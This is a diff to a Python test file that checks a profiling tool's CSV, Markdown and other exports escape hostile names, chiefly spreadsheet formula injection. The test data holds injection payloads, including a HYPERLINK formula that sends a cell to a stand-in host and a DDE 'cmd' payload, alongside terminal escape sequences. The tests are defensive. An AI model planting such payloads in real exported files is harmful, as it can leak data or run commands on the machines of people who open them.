@@ -9,6 +9,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 import xml.etree.ElementTree as ET
 from html.parser import HTMLParser
 from pathlib import Path
@@ -20,13 +21,29 @@ from icount.compare import model
 from icount.compare.thresholds import DEFAULT_MIN_DELTA, parse_thresholds
 from icount.errors import ResultsFileError, UsageError
 from icount.export import Kind
+from icount.export.documents import SizeDiffDoc, SizeDoc
 from icount.results import Cell, Results, Run
 from icount.results import files as files_mod
 from icount.results.cell_profile import PER_RUN, CellProfile, Edge, FunctionRow, Others
 from icount.results.details import CommandDetail
+from icount.size.model import Breakdown, Row
 from icount.text import md_text, printable
 from tests.support.cli import run_icount_here, run_icount_here_bytes
 
+# names a spreadsheet would run as formulas (OWASP's CSV injection), and the cell each is
+# in CSV: a quote first, escaped as any field; one that is a number stays a number
+FORMULA_CELLS = {
+    '=HYPERLINK("http://x.example/?"&A1,"x")': '\'=HYPERLINK("http://x.example/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "@SUM(1+1)": "'@SUM(1+1)",
+    "\t=1+1": "'\\t=1+1",
+    "\r=2+2": "'\\r=2+2",
+    "\x00=3+3": "'\\x00=3+3",
+    "'=quoted": "''=quoted",  # a quote of its own stays apart from the one added
+    "-1.5": "-1.5",
+}
+FORMULAS = list(FORMULA_CELLS)
 HOSTILE = [
     "esc\x1b]8;;http://x\x07osc\x1b\\",  # an OSC 8 hyperlink, ESC and BEL
     "c1\x85\x9b31m",  # NEL and CSI of the C1 set
@@ -40,8 +57,10 @@ HOSTILE = [
     "sep\u2028\u2029 nbsp\u00a0",
     "tag\U000e0041 plane16\U00100000",
     "[link](https://x.example/)",  # a link in a PR comment
+    *FORMULAS,
     "back\\x1b slash",  # the four characters, beside the ESC of the first
 ]
+NUMBER = re.compile(r"[-+]?[0-9]+(\.[0-9]+)?(e[-+]?[0-9]+)?")
 BAD = {chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)]} - {"\n"}
 BAD |= {"\u202e", "\u202c", "\ufffe", "\uffff", "\u2028", "\u2029", "\U000e0041"}
 
@@ -118,7 +137,8 @@ def _names_in(text: str, fmt: str) -> None:
         if fmt in ("svg", "junit"):
             shown = shown.replace("&", "&amp;").replace("<", "&lt;")
         key = shown[:4]  # enough to find it however the format shortens it
-        assert key in text, (fmt, name)
+        quoted = (key.replace("'", q) for q in ("&#x27;", "&apos;"))  # in an attribute
+        assert key in text or any(k in text for k in quoted), (fmt, name)
 
 
 def _parses(text: str, fmt: str) -> None:
@@ -145,6 +165,7 @@ def test_every_results_format_escapes_hostile_names(files: tuple[Path, Path], fm
     elif fmt == "csv":
         names = [r[0] for r in csv.reader(io.StringIO(text, newline=""))][1:]
         assert len(set(names)) == len(names) == len(HOSTILE) + 1
+        _no_formula(text, FORMULA_CELLS)
     else:
         _names_in(text, fmt)
     if fmt == "md":  # no name is a link or HTML in a PR comment
@@ -168,8 +189,35 @@ def test_every_comparison_format_escapes_hostile_names(files: tuple[Path, Path],
     if fmt == "json":
         rows = json.loads(text)["cells"]
         assert {r["name"] for r in rows} == {*HOSTILE, "failed\x1b[31m"}
-    elif fmt != "csv":
+    elif fmt == "csv":
+        _no_formula(text, FORMULA_CELLS)
+    else:
         _names_in(text, fmt)
+
+
+def _no_formula(text: str, cells: dict[str, str]) -> list[dict[str, str]]:
+    """The CSV parsed back: no cell a spreadsheet would run (one starting with = + - @,
+    a tab, CR or NUL is a number), and each formula name's cell as `cells` says."""
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    for row in rows:
+        for column, cell in row.items():
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\0"):
+                assert NUMBER.fullmatch(cell), (column, cell)
+    first = next(iter(rows[0]))  # name, or size's file
+    shown = {row[first] for row in rows}
+    for name, cell in cells.items():
+        assert cell in shown, (name, cell)
+    return rows
+
+
+def test_a_comparison_csv_keeps_a_negative_delta_a_number(files: tuple[Path, Path]) -> None:
+    """The new side smaller: every delta negative, written as a plain number, while the
+    names beside it that start with `-` are quoted."""
+    c = _comparison((files[1], files[0]))
+    rows = _no_formula(export.render_comparison(c, "csv", 100), FORMULA_CELLS)
+    deltas = [float(r["delta"]) for r in rows if r["delta"]]
+    assert len(deltas) == len(HOSTILE) and all(d < 0 for d in deltas)
+    assert all(r["delta_pct"].startswith("-") for r in rows if r["delta"])
 
 
 class _Page(HTMLParser):
@@ -277,3 +325,26 @@ def test_icount_table_writes_each_format_as_utf_8_and_refuses_a_surrogate(
         f"icount: error: {bad}: holds text that is not Unicode (a lone surrogate in \\udc80); "
         "not an icount results file\n"
     )
+
+
+def _breakdown(path: str, scale: int) -> Breakdown:
+    rows = [Row(name, 100 * scale + i, 90 * scale + i) for i, name in enumerate(HOSTILE)]
+    return Breakdown(path, "x86_64", "ELF64", "executable", sum(r.file for r in rows), rows,
+                     symbols="-3 symbols from .symtab")  # fmt: skip
+
+
+def test_size_csvs_quote_formula_names() -> None:
+    """`icount size -f csv` and `--diff -f csv`: symbols and paths read from a binary are
+    names like any other; the byte counts, a shrinking delta's included, stay numbers."""
+    old, new = _breakdown("=old", 2), _breakdown("@new", 1)
+    for doc in (SizeDoc([old], [old], "symbols"), SizeDiffDoc([(old, new)], "symbols")):
+        text = export.render(doc, "csv")
+        _clean(text, "size csv")
+        _parses(text, "csv")
+        rows = _no_formula(text, {"=old": "'=old"})
+        assert {r["label"] for r in rows} >= set(FORMULA_CELLS.values())
+        if isinstance(doc, SizeDoc):
+            assert {r["symbols"] for r in rows} == {"'-3 symbols from .symtab"}
+        else:
+            assert {r["new"] for r in rows} == {"'@new"}
+            assert all(int(r["delta_file_bytes"]) < 0 for r in rows)
